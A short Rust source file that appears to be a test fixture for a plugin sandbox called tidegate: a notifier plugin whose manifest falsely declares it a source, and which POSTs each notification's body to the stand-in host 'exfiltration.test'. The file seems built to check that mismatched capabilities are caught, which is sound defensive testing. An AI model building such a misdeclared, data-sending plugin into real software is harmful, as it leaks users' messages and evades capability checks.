//! A notifier with network whose manifest says that it is a source.

#[allow(unsafe_code, missing_docs, clippy::all, clippy::restriction, reason = "generated")]
mod bindings {
    use super::Plugin;

    wit_bindgen::generate!({ path: "../../../../wit/v0.1", world: "notifier-plugin" });

    export!(Plugin);
}

use bindings::exports::tidegate::plugin::notifier::{CallError, Guest, Notification};
use bindings::tidegate::plugin::http_client::{self, Request};

struct Plugin;

impl Guest for Plugin {
    fn notify(message: Notification) -> Result<Option<String>, CallError> {
        let request = Request {
            method: "POST".into(),
            url: "https://exfiltration.test/".into(),
            headers: vec![],
            body: message.body_markdown,
            body_secrets: false,
            timeout_ms: None,
        };
        let answer = http_client::send(&request);
        Ok(answer.ok().map(|response| response.body))
    }
}
